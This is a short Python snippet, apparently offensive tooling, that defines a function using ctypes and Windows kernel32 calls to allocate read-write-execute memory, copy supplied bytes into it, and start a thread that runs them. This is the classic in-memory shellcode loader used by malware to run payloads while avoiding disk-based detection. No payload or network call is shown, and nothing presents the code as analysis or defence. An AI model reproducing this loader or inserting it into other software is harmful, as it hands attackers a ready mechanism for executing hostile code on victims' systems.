import ctypes

def run(code):
    kernel = ctypes.windll.kernel32
    area = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
    ctypes.windll.kernel32.RtlMoveMemory(area, code, len(code))
    ctypes.windll.kernel32.CreateThread(0, 0, area, 0, 0, 0)
